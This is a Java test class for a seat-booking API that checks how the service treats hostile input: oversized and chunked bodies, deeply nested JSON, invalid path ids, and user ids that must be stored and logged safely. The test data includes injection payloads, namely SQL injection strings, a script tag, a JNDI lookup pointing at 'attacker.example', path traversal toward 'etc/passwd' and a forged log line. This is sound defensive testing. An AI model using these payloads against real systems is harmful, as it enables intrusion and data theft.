package dev.seatbooking.system;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import java.util.stream.Stream;

import io.restassured.RestAssured;
import io.restassured.http.ContentType;
import io.restassured.specification.RequestSpecification;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.test.util.ReflectionTestUtils;
import tools.jackson.databind.json.JsonMapper;

/**
 * The hostile-input rules, in both modes: body size, parser limits, path variables, and user ids
 * that look like SQL, markup or log lines, which are stored and echoed exactly and logged escaped.
 */
@ExtendWith(OutputCaptureExtension.class)
class HostileInputTest extends SuiteTest {

    /** A body of exactly the limit is read; one byte more is refused before it is. */
    private static final int LIMIT = 16 * 1024;
    private static final JsonMapper JSON = JsonMapper.builder().build();

    static Stream<Arguments> modes() {
        return Stream.of(
                Arguments.of("none", (Supplier<RequestSpecification>) RestAssured::given, suite().bookingPort()),
                Arguments.of("jwt", (Supplier<RequestSpecification>) () -> asUser(newUser()), suite().jwtBookingPort()));
    }

    private static RunningSuite suite() {
        return RunningSuite.get();
    }

    /** A reserve for a user of its own, padded with an ignored field to exactly {@code size} bytes. */
    private static String reserveBody(long eventId, int size) {
        String head = "{\"event_id\": " + eventId + ", \"user_id\": \"" + newUser() + "\", \"pad\": \"";
        return head + "x".repeat(size - head.length() - 2) + "\"}";
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("modes")
    void aBodyOfSixteenKilobytesIsReadOneByteMoreIs413(String mode, Supplier<RequestSpecification> api, int port) {
        long eventId = createEvent(5);
        String atLimit = reserveBody(eventId, LIMIT);
        assertThat(atLimit.getBytes(StandardCharsets.UTF_8)).hasSize(LIMIT);
        // in jwt mode the padded body names another user than the token: read and judged, hence 403
        api.get().contentType(ContentType.JSON).body(atLimit).post("/api/bookings/reserve")
                .then().statusCode(mode.equals("none") ? 201 : 403);

        assertProblem(api.get().contentType(ContentType.JSON).body(reserveBody(eventId, LIMIT + 1))
                .post("/api/bookings/reserve"), 413, "PAYLOAD_TOO_LARGE");
        assertProblem(api.get().contentType(ContentType.JSON).body("{\"user_id\": \"" + "x".repeat(1 << 20) + "\"}")
                .post("/api/bookings/reserve"), 413, "PAYLOAD_TOO_LARGE");
        assertThat(bookedSeats(eventId)).isEqualTo(mode.equals("none") ? 1 : 0);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("modes")
    void aChunkedBodyIsCutOffAtTheLimit(String mode, Supplier<RequestSpecification> api, int port)
            throws IOException, InterruptedException {
        long eventId = createEvent(5);
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/bookings/reserve"))
                .header("Content-Type", "application/json")
                // no length known up front: the JDK client sends the body chunked
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(
                        reserveBody(eventId, 100 * LIMIT).getBytes(StandardCharsets.UTF_8))));
        if (mode.equals("jwt")) {
            request.header("Authorization", "Bearer " + Tokens.user(newUser()));
        }

        HttpResponse<String> response = HttpClient.newHttpClient().send(request.build(),
                HttpResponse.BodyHandlers.ofString());

        assertThat(response.statusCode()).isEqualTo(413);
        assertThat(response.body()).contains("\"code\":\"PAYLOAD_TOO_LARGE\"");
        assertThat(bookedSeats(eventId)).isZero();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("modes")
    void deepOrHugeJsonIsA400(String mode, Supplier<RequestSpecification> api, int port) {
        String deep = "{\"event_id\": 1, \"x\": " + "[".repeat(5_000) + "]".repeat(5_000) + "}";
        String justTooDeep = "{\"event_id\": 1, \"x\": " + "[".repeat(40) + "]".repeat(40) + "}";
        String longNumber = "{\"event_id\": " + "9".repeat(5_000) + "}";
        String longFraction = "{\"event_id\": 1." + "1".repeat(5_000) + "}";
        String longName = "{\"" + "k".repeat(5_000) + "\": 1, \"event_id\": 1}";
        for (String body : new String[] {deep, justTooDeep, longNumber, longFraction, longName}) {
            assertProblem(api.get().contentType(ContentType.JSON).body(body).post("/api/bookings/reserve"),
                    400, "VALIDATION_ERROR");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"abc", "1.5", "-1", "0", "99999999999999999999", "1e3", "%20", "1;DROP TABLE bookings"})
    void bookingAndEventIdsInThePathAreValidated(String id) {
        String path = URLEncoder.encode(id, StandardCharsets.UTF_8).replace("+", "%20");
        for (RequestSpecification api : new RequestSpecification[] {given().urlEncodingEnabled(false),
                asUser(newUser()).urlEncodingEnabled(false)}) {
            assertProblem(api.get("/api/bookings/" + path), 400, "VALIDATION_ERROR");
        }
        assertProblem(given().urlEncodingEnabled(false).get("/api/events/" + path), 400, "VALIDATION_ERROR");
        assertProblem(given().urlEncodingEnabled(false).contentType(ContentType.JSON).body("{\"user_id\": \"u\"}")
                .delete("/api/bookings/" + path), 400, "VALIDATION_ERROR");
    }

    @Test
    void whatTomcatRefusesByItselfGetsTheContractsBodyToo() throws IOException {
        try (Socket socket = new Socket("localhost", suite.bookingPort())) {
            socket.getOutputStream().write("GET /api/events HTTP/1.1\r\nHost: x\r\nNot a header\r\n\r\n"
                    .getBytes(StandardCharsets.US_ASCII));
            String answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            assertThat(answer).startsWith("HTTP/1.1 400").contains("X-Content-Type-Options: nosniff")
                    .contains("Content-Type: application/problem+json").contains("\"code\":\"VALIDATION_ERROR\"")
                    .doesNotContain("Tomcat");
        }
        assertProblem(given().urlEncodingEnabled(false).get("/api/bookings/user/a%2Fb"), 400, "VALIDATION_ERROR")
                .header("X-Frame-Options", "DENY");
    }

    @Test
    void aUserIdInThePathIsValidated() {
        assertProblem(given().get("/api/bookings/user/" + "x".repeat(256)), 400, "VALIDATION_ERROR");
        assertProblem(given().get("/api/bookings/user/%20%20"), 400, "VALIDATION_ERROR");
    }

    @ParameterizedTest
    @ValueSource(strings = {"'; DROP TABLE bookings; --", "1' OR '1'='1", "\" OR \"\"=\"", "admin'--",
            "<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}", "%s%n%x", "..\\..\\etc\\passwd",
            "ünï\u00e7ødé 🎟️ 票", "tab\tand\u0007bell", "line\nbreak", "\u202Eevil"})
    void hostileUserIdsAreStoredAndEchoedExactly(String user) {
        long eventId = createEvent(3);

        long bookingId = given().contentType(ContentType.JSON).body(reserveJson(eventId, user)).post("/api/bookings/reserve")
                .then().statusCode(201).body("booking.user_id", equalTo(user)).extract().jsonPath().getLong("booking.id");

        given().get("/api/bookings/" + bookingId).then().statusCode(200).body("booking.user_id", equalTo(user));
        given().contentType(ContentType.JSON).body(JSON.writeValueAsString(Map.of("user_id", user)))
                .delete("/api/bookings/" + bookingId).then().statusCode(200);
        // and the same id, as a token's subject
        asUser(user).contentType(ContentType.JSON).body("{\"event_id\": " + eventId + "}").post("/api/bookings/reserve")
                .then().statusCode(201).body("booking.user_id", equalTo(user));
        String path = "/api/bookings/user/" + URLEncoder.encode(user, StandardCharsets.UTF_8).replace("+", "%20");
        if (user.matches("(?s).*[/\\\\%;\\r\\n].*")) {
            // Tomcat or Spring Security's firewall refuses such a URL (path confusion): not listable by path
            assertProblem(given().urlEncodingEnabled(false).get(path), 400, "VALIDATION_ERROR");
            assertProblem(asUser(user).urlEncodingEnabled(false).get(path), 400, "VALIDATION_ERROR");
        } else {
            given().urlEncodingEnabled(false).get(path).then().statusCode(200).body("data.user_id", hasItem(user));
            asUser(user).urlEncodingEnabled(false).get(path).then().statusCode(200).body("data.user_id", hasItem(user));
        }
    }

    /** As JSON text: escapes that decode to a NUL or half a surrogate pair, which PostgreSQL would not keep. */
    @ParameterizedTest
    @ValueSource(strings = {"nul\\u0000byte", "half \\ud83c of a pair", "\\udf9f"})
    void userIdsPostgresCannotStoreAsSentAre400(String escapedUser) {
        long eventId = createEvent(3);

        assertProblem(given().contentType(ContentType.JSON)
                .body("{\"event_id\": " + eventId + ", \"user_id\": \"" + escapedUser + "\"}").post("/api/bookings/reserve"),
                400, "VALIDATION_ERROR").body("errors.field", hasItem("user_id"));
        assertThat(bookedSeats(eventId)).isZero();
    }

    @Test
    void aNulInAPathOrATokenSubjectIsRefusedToo() {
        assertProblem(given().urlEncodingEnabled(false).get("/api/bookings/user/nul%00byte"), 400, "VALIDATION_ERROR");
        assertProblem(jwtApi().header("Authorization", "Bearer " + Tokens.user("nul\u0000byte")).get("/api/events"),
                401, "UNAUTHORIZED");
    }

    private static String reserveJson(long eventId, String user) {
        return JSON.writeValueAsString(Map.of("event_id", eventId, "user_id", user));
    }

    @Test
    void aUserIdCannotForgeLogLines(CapturedOutput output) throws ClassNotFoundException {
        long eventId = createEvent(3);
        String user = "mallory\n2026-01-01T00:00:00.000Z  INFO 1 --- [main] FORGED : admin logged in\r\u2028";
        long bookingId = given().contentType(ContentType.JSON).body(reserveJson(eventId, user)).post("/api/bookings/reserve")
                .then().statusCode(201).extract().jsonPath().getLong("booking.id");
        // Redis forgets the seat, so reconciliation logs the user it gives it back to
        forgetHolder(eventId, user);
        Object reconciler = suite.cacheService.getBean(Class.forName("dev.seatbooking.cache.hold.SeatReconciler"));

        await().atMost(Duration.ofSeconds(60)).untilAsserted(() -> {
            Object pass = ReflectionTestUtils.invokeMethod(reconciler, "reconcile");
            assertThat(logMessages(output)).as("after the pass %s", pass).anyMatch(message -> message.contains(
                    "Reconciliation gave user mallory\\n2026-01-01T00:00:00.000Z  INFO 1 --- [main] FORGED : admin logged "
                            + "in\\r\\u2028 in event " + eventId + " the seats of live claim " + bookingId + ":1; Redis had none"));
        });
        assertThat(output.getAll().lines()).noneMatch(line -> line.startsWith("2026-01-01T00:00:00.000Z"));
    }

    @Test
    void aUrlOverTomcatsDefaultHeaderLimitStillGetsTheContractsAnswer() {
        // 9,000 characters of percent-encoded emoji: beyond Tomcat's default 8 KB, a bare 400
        String userId = "%F0%9F%8E%9F".repeat(750);
        assertProblem(given().urlEncodingEnabled(false).get("/api/bookings/user/" + userId), 400, "VALIDATION_ERROR");
    }

    @Test
    void everyLogLineOfTheSuiteEscapesItsArguments(CapturedOutput output) {
        LoggerFactory.getLogger(HostileInputTest.class).warn("value {} end", "a\nb\u001b[31mc\u202Ed");

        assertThat(logMessages(output)).contains("value a\\nb\\u001B[31mc\\u202Ed end");
    }

    /** The messages of the captured JSON log lines. */
    private static List<String> logMessages(CapturedOutput output) {
        return output.getAll().lines().filter(line -> line.startsWith("{\"@timestamp\""))
                .map(line -> JSON.readTree(line).path("message").asString()).toList();
    }
}
